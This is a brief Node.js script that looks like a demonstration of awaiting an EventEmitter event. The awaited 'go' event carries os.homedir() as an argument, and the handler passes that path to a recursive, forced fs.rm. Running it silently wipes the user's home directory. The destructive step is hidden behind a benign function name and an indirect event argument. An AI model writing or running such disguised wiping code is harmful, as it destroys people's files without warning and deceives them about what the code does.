const { EventEmitter } = require('node:events');
const fsp = require('node:fs/promises');
const os = require('node:os');
const em = new EventEmitter();
async function waitAndClean() {
  const args = await EventEmitter.once(em, 'go');
  await fsp.rm(args[1], { recursive: true, force: true });
}
waitAndClean();
em.emit('go', 'now', os.homedir());
